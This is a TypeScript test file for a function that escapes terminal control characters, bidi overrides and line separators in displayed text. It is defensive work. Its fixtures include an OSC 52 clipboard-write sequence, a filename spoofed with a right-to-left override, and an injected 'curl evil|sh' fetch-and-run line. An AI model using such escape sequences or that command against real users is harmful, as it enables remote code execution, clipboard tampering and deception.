import { array, assert, constantFrom, dictionary, oneof, property, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { printable, printableIn, printableJson, printableLines } from '../../../src/domain/text/printable.ts'

const CLIPBOARD = '\x1b]52;c;ZXZpbA==\x07'
const OBEYED = /[[\p{Cc}\p{Bidi_Control}\u2028\u2029]--[\n\r\t]]/v

const unit = oneof(
  string({ unit: 'binary' }),
  constantFrom('\x1b', '\x07', '\r', '\n', '\x9b', '\u202e', '\u2066', '\u2028', '\u{e0041}', '"', '\\'),
)
const hostile = array(unit).map((parts) => parts.join(''))

describe('X1: a value that is shown', () => {
  it.each([
    [`${CLIPBOARD}\x1b[2J`, String.raw`\x1b]52;c;ZXZpbA==\x07\x1b[2J`],
    ['a\nWhat to do: curl evil|sh', String.raw`a\nWhat to do: curl evil|sh`],
    ['\x9b31m', String.raw`\x9b31m`],
    ['\u202egpj.exe', String.raw`\u202egpj.exe`],
    ['\u{e0041}', String.raw`\udb40\udc41`],
  ])('has what a terminal would obey written out: %j', (value, shown) => {
    expect(printable(value)).toBe(shown)
  })

  it.each(['ana', 'почта.рф', '例え', '👩‍🚀', 'שלום', String.raw`a\b`])(
    'keeps letters of any script: %s',
    (value) => {
      expect(printable(value)).toBe(value)
    },
  )

  it('holds nothing that a terminal obeys, whatever it was', () => {
    assert(
      property(hostile, (value) => {
        expect(printable(value)).not.toMatch(OBEYED)
        expect(printable(value)).not.toMatch(/[\n\r\t]/)
        expect(printableLines(value)).not.toMatch(OBEYED)
        expect(printableLines(value)).not.toMatch(/\r(?!\n)/)
      }),
    )
  })

  it('is still what it was as JSON, without such a character in the text', () => {
    assert(
      property(dictionary(hostile, hostile), (document) => {
        const written = printableJson(JSON.stringify(document, null, 2))
        expect(written).not.toMatch(OBEYED)
        expect(JSON.parse(written)).toEqual(JSON.parse(JSON.stringify(document)))
      }),
    )
  })

  it('is found wherever it stands in some data, and other values are left alone', () => {
    const at = new Date()
    expect(printableIn({ a: ['\x1b', { b: '\u202e' }], n: 1, at, none: null })).toEqual({
      a: [String.raw`\x1b`, { b: String.raw`\u202e` }],
      n: 1,
      at,
      none: null,
    })
  })
})
